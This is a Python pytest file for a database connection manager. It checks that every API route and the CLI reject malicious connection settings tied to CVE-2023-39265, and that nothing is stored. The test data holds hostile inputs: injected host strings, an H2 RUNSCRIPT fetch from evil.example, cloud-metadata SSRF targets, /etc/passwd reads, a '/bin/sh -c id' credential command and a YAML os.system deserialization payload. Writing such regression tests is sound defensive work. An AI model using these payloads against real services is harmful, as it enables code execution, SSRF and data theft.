"""One constructor for all ways in (CVE-2023-39265): what create refuses, every other way refuses
in the same words, and what it refuses is never stored."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from dragoman.cli.main import app
from tests.support import stores
from tests.support.bodies import body, service_account
from tests.support.clients import assert_error
from tests.support.server import CONNECTIONS, Server

Problems = set[tuple[str, str]]
EXTERNAL_ACCOUNT = service_account(
    type="external_account",
    credential_source={"executable": {"command": "/bin/sh -c id"}},
)
# Texts that other servers handed to a driver. `host` is never a way to say anything else.
HOSTS = (
    "(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=evil.example)(PORT=1521)))",
    "db.example.com,evil.example",
    "db.example.com;Encrypt=no;Trusted_Connection=yes",
    "{db.example.com}",
    "/var/run/postgresql",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'",
    "sqlite+pysqlite:////etc/passwd",
    "db.example.com\\SQLEXPRESS",
    "db.example.com?sslmode=disable",
    "db.example.com sslmode=disable",
    "user:password@db.example.com",
    "db.example.com#",
    "db.example.com%00",
    "db.example.com\nhost=evil.example",
    "169.254.169.254",
    "metadata.google.internal.:80/",
)
WITH_HOST = (
    "clickhouse", "databricks_lakebase", "exasol", "fabric", "mariadb", "mssql", "mysql", "oracle",
    "postgres", "redshift", "sap_hana", "starrocks", "trino",
)  # fmt: skip
REFUSED: list[tuple[str, dict[str, Any]]] = [
    *((dialect, {"host": host}) for dialect in WITH_HOST for host in HOSTS),
    ("snowflake", {"authenticationType": "externalbrowser"}),
    ("snowflake", {"authenticationType": "EXTERNALBROWSER"}),
    ("databricks", {"authenticationType": "external-browser"}),
    ("snowflake", {"host": "evil.example/?account=x"}),
    ("snowflake", {"host": None, "hostOverride": "evil.example/x?y=z"}),
    ("databricks", {"host": "169.254.169.254"}),
    ("bigquery", {"passwordUnencrypted": EXTERNAL_ACCOUNT}),
    ("bigquery", {"passwordUnencrypted": service_account(token_uri="http://169.254.169.254/")}),
    ("bigquery", {"passwordUnencrypted": service_account(token_uri="https://evil.example/t")}),
    ("motherduck", {"database": "/etc/passwd"}),
    ("motherduck", {"database": "md:x?motherduck_token=y&allow_unsigned_extensions=true"}),
    ("motherduck", {"database": "../x"}),
    ("postgres", {"sslmode": "disable"}),
    ("postgres", {"options": "-c x=y"}),
    ("mysql", {"allowLocalInfile": True}),
    ("postgres", {"port": "5432;x"}),
    ("postgres", {"id": "x", "createdBy": "me", "deletedAt": None, "version": 5}),
    ("snowflake", {"externalOauthTokenUrl": "http://169.254.169.254/latest/meta-data"}),
    ("snowflake", {"externalOauthTokenUrl": "https://[::ffff:169.254.169.254]/"}),
    ("postgres", {"passwordUnencrypted": {"$secret": "file:/etc/passwd", "x": 1}}),
]  # fmt: skip


def label(case: Any) -> str:
    return str(case)[:60] if isinstance(case, dict) else str(case)


@pytest.fixture(scope="module")
def shared(shared_sqlite_server: Server) -> Server:
    return shared_sqlite_server


def problems(answer: Any) -> Problems:
    return {(p["field"], p["message"]) for p in assert_error(answer, 400)["errors"]}


@pytest.mark.parametrize(("dialect", "changes"), REFUSED, ids=label)
def test_each_way_in_refuses_alike(shared: Server, dialect: str, changes: dict[str, Any]) -> None:
    bad = {**body(dialect), **changes}
    rows = shared.sql("SELECT count(*) FROM connections")
    said = problems(shared.root.post(CONNECTIONS, json=bad))
    assert said
    assert {field for field, _ in said} <= {*changes, "host"}
    assert problems(shared.root.post(f"{CONNECTIONS}?test=true", json=bad)) == said
    assert problems(shared.root.post(f"{CONNECTIONS}/test", json=bad)) == said
    assert shared.sql("SELECT count(*) FROM connections") == rows

    made = shared.create(dialect)
    before = shared.show(made)
    sent = {**body(dialect), **changes}
    assert problems(shared.root.patch(f"{CONNECTIONS}/{made}", json=sent)) >= said
    assert shared.show(made) == before
    assert shared.root.delete(f"{CONNECTIONS}/{made}").status_code == 200
    assert problems(shared.root.post(f"{CONNECTIONS}/{made}/restore", json=sent)) >= said
    assert_error(shared.root.get(f"{CONNECTIONS}/{made}"), 404)


@pytest.mark.parametrize(
    ("dialect", "changes"),
    [*[case for case in REFUSED if "passwordUnencrypted" not in case[1]][::7], REFUSED[-8]],
    ids=label,
)
def test_the_command_line_refuses_alike(
    shared: Server,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    dialect: str,
    changes: dict[str, Any],
) -> None:
    said = problems(shared.root.post(CONNECTIONS, json={**body(dialect), **changes}))
    monkeypatch.setenv("DRAGOMAN_HOME", str(tmp_path / "home"))
    stores.lay(tmp_path / "home" / "dragoman.db")
    entry = {**body(dialect), **changes}
    if "passwordUnencrypted" in entry:
        entry["passwordUnencrypted"] = {"$secret": "env:DRAGOMAN_SECRET_X"}
    file = tmp_path / "connections.yaml"
    file.write_text(yaml.safe_dump([entry]))
    result = CliRunner().invoke(app, ["connections", "apply", str(file)])
    assert result.exit_code == 5, result.output
    for field, message in said:
        assert f"{field}: {message}" in result.output
    listed = CliRunner().invoke(app, ["connections", "list", "--json"])
    assert listed.stdout.strip() == "[]"


def test_files_of_the_command_line_build_no_objects(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DRAGOMAN_HOME", str(tmp_path / "home"))
    marker = tmp_path / "ran"
    file = tmp_path / "evil.yaml"
    file.write_text(f"- !!python/object/apply:os.system ['touch {marker}']\n")
    assert CliRunner().invoke(app, ["connections", "apply", str(file)]).exit_code != 0
    assert not marker.exists()
